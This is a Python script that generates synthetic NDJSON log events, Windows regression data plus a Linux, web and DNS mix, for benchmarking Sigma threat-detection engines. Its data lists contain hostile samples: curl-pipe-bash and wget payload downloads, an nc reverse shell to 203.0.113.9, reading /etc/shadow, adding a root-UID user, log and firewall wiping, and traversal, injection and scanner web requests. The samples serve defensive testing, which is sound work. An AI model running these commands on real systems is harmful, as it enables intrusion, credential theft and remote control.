#!/usr/bin/env python3
"""Events for the hunting benchmark (issue #5), as NDJSON both engines read alike.

    scripts/bench-hunt-data.py SIGMA_FIXTURES OUT.ndjson MEGABYTES

Half the bytes are SigmaHQ's regression events (every JSON export beside an info.yml),
flattened to Sigma's Windows field names and replicated; half a generated Linux/web mix
(auditd process executions, sshd/sudo lines, web server requests, DNS queries) from a
fixed seed, some of them hostile. Each event carries its Sigma log source as plain
`product`/`service`/`category` fields (what rsigma's --logsource-routing reads and what
yunshou's `logsource_fields` mapping reads) and a `bench_seq` number to identify it.
"""
import json
import os
import random
import sys

SERVICES = {
    "microsoft-windows-sysmon/operational": "sysmon",
    "security": "security",
    "system": "system",
    "application": "application",
    "microsoft-windows-powershell/operational": "powershell",
    "windows powershell": "powershell-classic",
    "microsoft-windows-taskscheduler/operational": "taskscheduler",
    "microsoft-windows-wmi-activity/operational": "wmi",
    "microsoft-windows-windows defender/operational": "windefend",
}
SYSMON = {1: "process_creation", 2: "file_change", 3: "network_connection", 5: "process_termination",
          6: "driver_load", 7: "image_load", 8: "create_remote_thread", 9: "raw_access_thread",
          10: "process_access", 11: "file_event", 15: "create_stream_hash", 17: "pipe_created",
          18: "pipe_created", 22: "dns_query", 23: "file_delete", 25: "process_tampering"}


def flatten(event):
    """The evtx JSON shape under Sigma's names (as yunshou's engine reads it)."""
    out = {}
    e = event.get("Event", {})
    for k, v in (e.get("System") or {}).items():
        if isinstance(v, dict):
            if "#text" in v:
                out[k] = v["#text"]
            for ak, av in (v.get("#attributes") or {}).items():
                out[f"{k}_{ak}"] = av
        elif v is not None:
            out[k] = v
    for section in ("EventData", "UserData"):
        def walk(o):
            for k, v in o.items():
                if k == "#attributes":
                    continue
                if isinstance(v, dict):
                    if "#text" in v:
                        out[k] = v["#text"]
                    else:
                        walk(v)
                else:
                    out[k] = v
                    if " " in k:
                        out[k.replace(" ", "")] = v
        if isinstance(e.get(section), dict):
            walk(e[section])
    channel = str(out.get("Channel", "")).lower()
    out["product"] = "windows"
    if channel in SERVICES:
        out["service"] = SERVICES[channel]
    eid = out.get("EventID")
    if out.get("service") == "sysmon" and eid in SYSMON:
        out["category"] = SYSMON[eid]
    if out.get("service") == "powershell" and eid in (4103, 4104):
        out["category"] = "ps_module" if eid == 4103 else "ps_script"
    return out


def regression_events(root):
    events = []
    for d, _, files in sorted(os.walk(os.path.join(root, "regression_data"))):
        for f in sorted(files):
            if not f.endswith(".json"):
                continue
            text = open(os.path.join(d, f), encoding="utf-8").read()
            dec, pos = json.JSONDecoder(), 0
            while pos < len(text):
                while pos < len(text) and text[pos].isspace():
                    pos += 1
                if pos >= len(text):
                    break
                obj, pos = dec.raw_decode(text, pos)
                events.append(flatten(obj))
    return events


USERS = ["root", "ops", "deploy", "zhangwei", "lina", "backup", "nginx", "www-data"]
HOSTS = ["web-01", "web-02", "db-01", "app-03", "bastion", "k8s-node-4"]
BENIGN = [("/usr/bin/ls", "ls -la /var/log"), ("/usr/bin/systemctl", "systemctl status nginx"),
          ("/usr/bin/python3", "python3 /opt/app/worker.py --queue default"),
          ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
          ("/usr/bin/git", "git pull --ff-only"), ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc")]
HOSTILE = [("/usr/bin/curl", "curl -s http://203.0.113.9/x.sh | bash"),
           ("/usr/bin/wget", "wget -q -O /tmp/.x http://198.51.100.4/k && chmod +x /tmp/.x"),
           ("/usr/bin/base64", "base64 -d /tmp/p.b64"), ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"),
           ("/usr/bin/cat", "cat /etc/shadow"), ("/usr/bin/chattr", "chattr -i /etc/passwd"),
           ("/usr/sbin/useradd", "useradd -o -u 0 svc"), ("/usr/bin/crontab", "crontab -r"),
           ("/usr/bin/history", "history -c"), ("/usr/sbin/iptables", "iptables -F")]
PATHS = ["/", "/index.html", "/api/v1/items", "/static/app.js", "/login", "/healthz"]
BAD_PATHS = ["/.git/config", "/wp-login.php", "/cgi-bin/../../../../etc/passwd", "/shell.jsp",
             "/index.php?cmd=whoami", "/?id=1%27%20OR%201=1--", "/actuator/env", "/.env"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/8.5.0", "kube-probe/1.29"]
BAD_AGENTS = ["sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "python-requests/2.31 (nuclei)"]


def linux_event(rng):
    kind = rng.random()
    hostile = rng.random() < 0.02
    if kind < 0.35:
        img, cmd = rng.choice(HOSTILE if hostile else BENIGN)
        return {"product": "linux", "category": "process_creation", "Image": img, "CommandLine": cmd,
                "ParentImage": rng.choice(["/usr/bin/bash", "/usr/sbin/sshd", "/usr/sbin/cron"]),
                "User": rng.choice(USERS), "CurrentDirectory": "/home/" + rng.choice(USERS),
                "ProcessId": rng.randint(300, 60000), "Computer": rng.choice(HOSTS)}
    if kind < 0.5:
        img, cmd = rng.choice(HOSTILE if hostile else BENIGN)
        args = cmd.split(" ")
        ev = {"product": "linux", "service": "auditd", "type": "EXECVE", "argc": len(args),
              "exe": img, "comm": os.path.basename(img), "uid": rng.choice([0, 1000, 33])}
        for i, a in enumerate(args[:6]):
            ev[f"a{i}"] = a
        return ev
    if kind < 0.65:
        user, ip = rng.choice(USERS), f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        msg = (f"Failed password for invalid user {user} from {ip} port {rng.randint(1024, 65535)} ssh2"
               if hostile or rng.random() < 0.2 else
               f"Accepted publickey for {user} from {ip} port {rng.randint(1024, 65535)} ssh2")
        return {"product": "linux", "service": "sshd", "host": rng.choice(HOSTS), "message": msg}
    if kind < 0.9:
        path = rng.choice(BAD_PATHS if hostile else PATHS)
        stem, _, query = path.partition("?")
        return {"category": "webserver", "c-ip": f"198.51.100.{rng.randint(1, 254)}",
                "cs-method": rng.choice(["GET", "GET", "POST"]), "cs-uri-stem": stem, "cs-uri-query": query,
                "c-uri": path, "sc-status": rng.choice([200, 200, 301, 404]), "cs-host": "portal.gov.example",
                "cs-user-agent": rng.choice(BAD_AGENTS if hostile else AGENTS)}
    name = rng.choice(["api.gov.example", "mirrors.aliyun.com", "time.windows.com"])
    if hostile:
        name = rng.choice(["xmrpool.eu", "raw.githubusercontent.com", "abcdefgh1234.ngrok.io"])
    return {"category": "dns", "query": name, "answer": "203.0.113.5", "src_ip": "10.1.2.3"}


def main():
    root, out_path, megabytes = sys.argv[1], sys.argv[2], int(sys.argv[3])
    target = megabytes * 1024 * 1024
    windows = regression_events(root)
    rng = random.Random(20261125)
    written = seq = 0
    with open(out_path, "w", encoding="utf-8") as out:
        i = 0
        while written < target:
            if written < target // 2:
                ev = dict(windows[i % len(windows)])
                i += 1
            else:
                ev = linux_event(rng)
            ev["bench_seq"] = seq
            line = json.dumps(ev, ensure_ascii=False, separators=(",", ":")) + "\n"
            out.write(line)
            written += len(line.encode("utf-8"))
            seq += 1
    print(f"{seq} events, {written / 1048576:.0f} MiB ({len(windows)} distinct regression events)")


if __name__ == "__main__":
    main()
